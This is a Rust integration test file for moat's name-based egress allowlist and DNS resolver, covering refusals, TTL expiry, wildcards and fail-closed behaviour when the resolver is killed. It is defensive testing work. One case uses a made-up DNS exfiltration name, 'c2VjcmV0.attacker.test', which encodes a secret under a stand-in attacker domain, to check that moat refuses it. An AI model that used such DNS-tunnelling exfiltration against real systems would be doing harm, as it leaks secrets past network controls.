//! Egress by name (issue 18, threat T18): name entries in the allowlist
//! (`svc.moat.test tcp 8080`, `*.wild.moat.test tcp 8080`) served by
//! moat's resolver, with real containers through the `moat` binary.
//!
//! Run with:
//!
//! ```sh
//! cargo build --release -p moat
//! cargo test --release -p moat-integration --test egress_names -- --test-threads=1
//! ```
//!
//! Topology: as in `egress.rs` (an outside namespace joined by a veth pair
//! to the container's namespace, 10.231.X.1 inside, 10.231.X.2 outside).
//! The upstream resolver is this test's own DNS server on 10.231.X.2:53 in
//! the outside namespace: it answers every A query with 10.231.X.2 (the
//! only address it ever gives) and logs every name it is asked. Names
//! under `.moat.test` and `.attacker.test` exist only in this test.
//! Traffic only ever goes to loopback or the test's own addresses.

use std::collections::HashMap;
use std::fs;
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use moat_integration::network::*;
use moat_integration::*;

/// The test upstream: answers A queries with one address, with the TTL
/// of the first matching (suffix, ttl) pair or 600 s, and logs each name.
struct Upstream {
    names: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    handle: Option<JoinHandle<()>>,
}

impl Upstream {
    fn start(
        ns: &Path,
        addr: SocketAddr,
        answer: Ipv4Addr,
        ttls: HashMap<String, u32>,
    ) -> Upstream {
        let sock = in_netns(ns, || UdpSocket::bind(addr))
            .unwrap_or_else(|e| panic!("bind test upstream {addr}: {e}"));
        sock.set_read_timeout(Some(Duration::from_millis(20)))
            .unwrap();
        let names = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (n, s) = (names.clone(), stop.clone());
        let handle = std::thread::spawn(move || {
            let mut buf = [0u8; 2048];
            while !s.load(Ordering::SeqCst) {
                let Ok((len, peer)) = sock.recv_from(&mut buf) else {
                    continue;
                };
                let q = &buf[..len];
                let name = qname(q).unwrap_or_default();
                n.lock().unwrap().push(name.clone());
                let ttl = ttls
                    .iter()
                    .find(|(suffix, _)| name.ends_with(suffix.as_str()))
                    .map(|(_, t)| *t)
                    .unwrap_or(600);
                if let Some(mut reply) = dns_reply(q, answer) {
                    // dns_reply's answer ends with TTL(4) RDLENGTH(2) RDATA(4).
                    if reply.len() > q.len() {
                        let at = reply.len() - 10;
                        reply[at..at + 4].copy_from_slice(&ttl.to_be_bytes());
                    }
                    let _ = sock.send_to(&reply, peer);
                }
            }
        });
        Upstream {
            names,
            stop,
            handle: Some(handle),
        }
    }

    fn asked(&self) -> Vec<String> {
        self.names.lock().unwrap().clone()
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

/// The question's name of a query, lowercase.
fn qname(q: &[u8]) -> Option<String> {
    let mut i = 12;
    let mut labels = Vec::new();
    loop {
        let len = usize::from(*q.get(i)?);
        if len == 0 {
            break;
        }
        labels.push(String::from_utf8_lossy(q.get(i + 1..i + 1 + len)?).to_lowercase());
        i += 1 + len;
    }
    Some(labels.join("."))
}

fn names_policy(env: &Env, upstream: Ipv4Addr) -> String {
    policy_file(
        env,
        "names.toml",
        &format!(
            "[egress]\nallow = [\"svc.moat.test tcp 8080\", \"*.wild.moat.test tcp 8080\"]\nresolvers = [\"{upstream}:53\"]\nname_ttl_min = 1\n"
        ),
    )
}

/// `nslookup NAME SERVER` in the container; (exit code, output).
fn lookup(env: &Env, id: &str, name: &str, server: Ipv4Addr) -> (String, String) {
    let out = exec_sh(
        env,
        id,
        &format!("timeout 10 nslookup {name} {server} 2>&1; echo \"NS=$?\""),
    );
    (exit_of(&out, "NS"), out.stdout.clone())
}

/// Does busybox nslookup's output carry `addr` as an answer (not just as
/// the server's address, which it prints as `Address:\tADDR:53`)?
fn answered(text: &str, addr: Ipv4Addr) -> bool {
    let want = format!("Address: {addr}");
    text.lines().any(|l| l.trim() == want)
}

/// The resolver's directory under the env's state root.
fn resolver_dir(env: &Env) -> PathBuf {
    moat::resolver::dir(&canonical_root(Path::new(env.root_str())))
}

fn read_pid(path: &Path) -> Option<i32> {
    fs::read_to_string(path).ok()?.trim().parse().ok()
}

/// Is process `pid` alive (not gone, not a zombie)?
fn alive(pid: i32) -> bool {
    fs::read_to_string(format!("/proc/{pid}/stat"))
        .map(|s| {
            s.rsplit_once(')')
                .is_some_and(|(_, rest)| !rest.trim_start().starts_with('Z'))
        })
        .unwrap_or(false)
}

fn wait_until(what: &str, within: Duration, mut f: impl FnMut() -> bool) {
    let start = Instant::now();
    while !f() {
        assert!(start.elapsed() < within, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// The elements of set `set` of moat's table in namespace `ns`.
fn set_text(ns: &Path, set: &str) -> String {
    let arg = format!("--net={}", ns.display());
    run_cmd(
        "nsenter",
        &[&arg, "nft", "list", "set", "inet", "moat", set],
    )
    .1
}

/// T18 by name: an allowed name resolves through moat's resolver and its
/// answer opens the connection; the same address without a lookup is
/// refused; the answer expires with its TTL; a wildcard allows strictly
/// subdomains; a name not allowed is REFUSED by moat and never reaches
/// the upstream (its own log says so), whichever server the container
/// asks. Deleting the last container stops the resolver and leaves
/// nothing behind.
#[test]
fn names_resolve_through_moat_and_only_their_answers_connect() {
    let env = Env::new();
    let addrs = Addrs::next();
    let policy = names_policy(&env, addrs.outside());
    let b = env.bundle(&["sleep", "300"]);
    let id = env.id("eg-names");
    let leak = env.leak_check(&id);
    let (supervisor, worker);
    {
        let _g = start_with(&env, &["--policy", &policy], &b, &id);
        let dir = resolver_dir(&env);
        supervisor = read_pid(&dir.join("supervisor.pid")).expect("no resolver supervisor pid");
        worker = read_pid(&dir.join("worker.pid")).expect("no resolver worker pid");
        assert!(alive(supervisor) && alive(worker));
        let mut net = Net::with(addrs, init_pid(&env, &id), false);
        let up = net.outside;
        let srv = net.tcp_server(false, 8080, "hello-by-name\n");
        let ttls = HashMap::from([("short.wild.moat.test".to_string(), 4)]);
        let upstream = Upstream::start(&net.ns_path(), SocketAddr::new(up.into(), 53), up, ttls);
        let pin = netns_pin(&leak);

        // An allowed address without a lookup: refused.
        assert_tcp_egress_refused_and_counted(&env, &id, &net, srv, 8080);

        // A short-lived answer: connects, then expires.
        let out = exec_sh(
            &env,
            &id,
            &format!(
                "timeout 10 nslookup short.wild.moat.test {up} 2>&1; echo \"NS=$?\"; {}",
                nc_probe("NC", up, 8080)
            ),
        );
        assert_eq!(exit_of(&out, "NS"), "0", "{out}");
        assert!(answered(&out.stdout, up), "{out}");
        assert_eq!(exit_of(&out, "NC"), "0", "{out}");
        assert!(out.stdout.contains("hello-by-name"), "{out}");
        assert!(set_text(&pin, "name1_v4").contains(&up.to_string()));
        wait_until("the answer to expire", Duration::from_secs(30), || {
            !set_text(&pin, "name1_v4").contains(&up.to_string())
        });
        assert_tcp_egress_refused_and_counted(&env, &id, &net, srv, 8080);

        // The exact name and a deeper subdomain resolve.
        for name in ["svc.moat.test", "a.b.wild.moat.test"] {
            let (code, text) = lookup(&env, &id, name, up);
            assert_eq!(code, "0", "{name}: {text}");
            assert!(answered(&text, up), "{name}: {text}");
        }
        let out = exec_sh(&env, &id, &nc_probe("NC", up, 8080));
        assert_eq!(exit_of(&out, "NC"), "0", "{out}");
        // Another port of an answered address: not in the entry.
        let out = exec_sh(&env, &id, &nc_probe("NC", up, 8081));
        assert_ne!(exit_of(&out, "NC"), "0", "{out}");

        // Not allowed: the apex of the wildcard, a made-up exfiltration
        // name, a suffix trick. REFUSED by moat, never upstream.
        for name in [
            "wild.moat.test",
            "c2VjcmV0.attacker.test",
            "svc.moat.test.attacker.test",
        ] {
            // (busybox's exit code is not asserted here: what matters is
            // that moat said REFUSED and no address came back.)
            let (_, text) = lookup(&env, &id, name, up);
            assert!(!answered(&text, up), "{name} resolved: {text}");
            assert!(text.contains("REFUSED"), "{name}: {text}");
        }
        std::thread::sleep(Duration::from_millis(300));
        let asked = upstream.asked();
        for name in asked.iter() {
            assert!(
                name.ends_with("moat.test")
                    && name != "wild.moat.test"
                    && !name.contains("attacker"),
                "the upstream was asked {name:?}: {asked:?}"
            );
        }
        for name in [
            "short.wild.moat.test",
            "svc.moat.test",
            "a.b.wild.moat.test",
        ] {
            assert!(
                asked.iter().any(|n| n == name),
                "{name} not forwarded: {asked:?}"
            );
        }
        let log = fs::read_to_string(dir.join("log")).unwrap_or_default();
        assert!(
            log.contains("c2VjcmV0.attacker.test"),
            "refused name not logged:\n{log}"
        );

        drop(upstream);
        close_and_delete(&env, net, &id);
    }
    verify_gone(&leak);
    wait_until("the resolver to stop", Duration::from_secs(10), || {
        !alive(supervisor) && !alive(worker)
    });
    assert!(
        !resolver_dir(&env).exists(),
        "the resolver's directory is left"
    );
}

/// T18 by name, fail closed: with the resolver killed, the container's
/// lookups get no answer (the redirect stays, nothing listens) and do not
/// reach the upstream; the next create that needs the resolver starts it
/// again and it re-attaches the first container from moat's state; a
/// killed worker is restarted by its supervisor.
#[test]
fn a_killed_resolver_fails_closed_and_comes_back() {
    let env = Env::new();
    let addrs = Addrs::next();
    let policy = names_policy(&env, addrs.outside());
    let b1 = env.bundle(&["sleep", "300"]);
    let b2 = env.bundle(&["sleep", "300"]);
    let id1 = env.id("eg-names-kill1");
    let id2 = env.id("eg-names-kill2");
    let leak1 = env.leak_check(&id1);
    let leak2 = env.leak_check(&id2);
    let mut pids = Vec::new();
    let dir;
    {
        let _g1 = start_with(&env, &["--policy", &policy], &b1, &id1);
        dir = resolver_dir(&env);
        let net = Net::with(addrs, init_pid(&env, &id1), false);
        let up = net.outside;
        let upstream = Upstream::start(
            &net.ns_path(),
            SocketAddr::new(up.into(), 53),
            up,
            HashMap::new(),
        );
        let (code, text) = lookup(&env, &id1, "svc.moat.test", up);
        assert_eq!(code, "0", "{text}");
        assert!(answered(&text, up), "{text}");

        let supervisor = read_pid(&dir.join("supervisor.pid")).unwrap();
        let worker = read_pid(&dir.join("worker.pid")).unwrap();
        pids.extend([supervisor, worker]);
        for pid in [supervisor, worker] {
            must("kill", &["-KILL", &pid.to_string()]);
        }
        wait_until("the resolver to die", Duration::from_secs(10), || {
            !alive(supervisor) && !alive(worker)
        });
        let before = upstream.asked().len();
        let (code, text) = lookup(&env, &id1, "a.wild.moat.test", up);
        assert_ne!(code, "0", "resolved with the resolver dead: {text}");
        assert!(!answered(&text, up), "{text}");
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(
            upstream.asked().len(),
            before,
            "a query left while the resolver was dead"
        );

        // The next create brings it back, and it serves the first one too.
        let _g2 = start_with(&env, &["--policy", &policy], &b2, &id2);
        let (code, text) = lookup(&env, &id1, "a.wild.moat.test", up);
        assert_eq!(code, "0", "not re-attached: {text}");

        // A killed worker alone is restarted by the supervisor.
        let supervisor = read_pid(&dir.join("supervisor.pid")).unwrap();
        let worker = read_pid(&dir.join("worker.pid")).unwrap();
        pids.extend([supervisor, worker]);
        must("kill", &["-KILL", &worker.to_string()]);
        wait_until("a new worker", Duration::from_secs(20), || {
            read_pid(&dir.join("worker.pid")).is_some_and(|p| p != worker && alive(p))
        });
        pids.push(read_pid(&dir.join("worker.pid")).unwrap());
        wait_until("lookups to work again", Duration::from_secs(30), || {
            lookup(&env, &id1, "b.wild.moat.test", up).0 == "0"
        });

        drop(upstream);
        close_and_delete(&env, net, &id1);
        env.moat(&["delete", "--force", &id2]).assert_ok();
    }
    verify_gone(&leak1);
    verify_gone(&leak2);
    wait_until("the resolver to stop", Duration::from_secs(10), || {
        pids.iter().all(|p| !alive(*p))
    });
    assert!(!dir.exists(), "the resolver's directory is left");
}
